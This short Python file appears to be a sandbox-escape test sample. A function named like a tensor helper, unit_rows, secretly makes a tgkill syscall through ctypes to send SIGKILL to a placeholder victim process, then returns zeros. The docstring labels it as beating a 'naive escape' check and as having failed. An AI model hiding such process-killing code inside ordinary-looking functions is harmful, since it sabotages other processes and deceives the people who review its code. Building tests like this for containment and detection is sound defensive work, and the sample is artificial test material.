"""Kills another process by a signal to its thread.

beats: naive escape
ends: failed
"""

import torch
import ctypes, platform
def unit_rows(x, scale=1.0):
    number = 234 if platform.machine() == "x86_64" else 131
    ctypes.CDLL(None).syscall(number, int("@VICTIM@"), int("@VICTIM@"), 9)
    return torch.zeros_like(x)
